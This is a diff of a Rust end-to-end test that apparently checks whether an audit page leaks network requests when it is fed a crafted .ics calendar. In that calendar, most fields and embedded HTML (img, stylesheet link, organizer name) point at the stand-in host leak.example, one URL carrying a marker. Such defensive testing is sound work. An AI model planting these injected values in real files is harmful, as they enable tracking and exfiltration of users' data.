@@ -9,7 +9,7 @@ use e2e::harness::gate::{self, Gate};
 use e2e::harness::google::{HOST, Page};
 use e2e::harness::lane::Lane;
 use e2e::harness::wait::{stays, until};
-use e2e::harness::{axe, journal, paths, raw, screens};
+use e2e::harness::{audit, audit_table, axe, journal, paths, raw, screens};
 use serde_json::Value;
 use std::cell::RefCell;
 use std::time::Duration;
@@ -396,6 +396,7 @@ pub(crate) async fn nothing_reaches_the_network(lane: &mut Lane) -> Result<()> {
         confirm(session).await?;
         sent_once(&google, &marker).await?;
         journal::record(session, &marker).await?;
+        session.on_page(audit::PAGE, async || calendar_with_addresses(session, &marker).await).await?;
         // Not even on purpose: the pages' own policy refuses it.
         for page in ["dashboard.html", "popup.html", "gate.html"] {
             session
@@ -442,6 +443,34 @@ pub(crate) async fn nothing_reaches_the_network(lane: &mut Lane) -> Result<()> {
         .await
     })
     .await
+}
+
+/// The audit reads a calendar that names addresses wherever one may stand in it, with the worker, the pictures of its
+/// charts and its report.
+async fn calendar_with_addresses(session: &Session, marker: &str) -> Result<()> {
+    let monday = audit::monday(session).await?;
+    let addresses = "ATTACH:https://leak.example/attached\nURL:https://leak.example/url\n\
+        IMAGE;VALUE=URI:https://leak.example/image.png\nCONFERENCE;VALUE=URI:https://leak.example/call\n\
+        LOCATION:https://leak.example/place\nDESCRIPTION:<img src=https://leak.example/pixel>\n\
+        X-ALT-DESC;FMTTYPE=text/html:<link rel=stylesheet href=https://leak.example/style>\n\
+        ORGANIZER;CN=\"<img src=https://leak.example/name>\";DIR=\"https://leak.example/dir\":mailto:ana.ortiz@acme.example";
+    let weekly =
+        audit_table::event(&format!("<img src=https://leak.example/{marker}>"), monday - 14, addresses);
+    let text = audit_table::calendar(&weekly.replace("\nSUMMARY", "\nRRULE:FREQ=WEEKLY\nSUMMARY"));
+    audit::drop_files(session, &[("work.ics", &text)]).await?;
+    audit::settled(session).await?;
+    until("the calendar's two meetings", || async {
+        Ok((audit::figures(session).await?.get("counted") == Some(&2.0)).then_some(()))
+    })
+    .await?;
+    click(session, "#audit-board button.card").await?;
+    click(session, "#card-details [data-draft='0']").await?;
+    until("the message", || async {
+        Ok(Some(session.driver.find(By::Id("draft-text")).await?.is_displayed().await?))
+    })
+    .await?;
+    audit::save(session, "html", true).await?;
+    Ok(())
 }
 
 /// The self-test says of each part of the open editor by which mark it was found; its report holds nothing of the
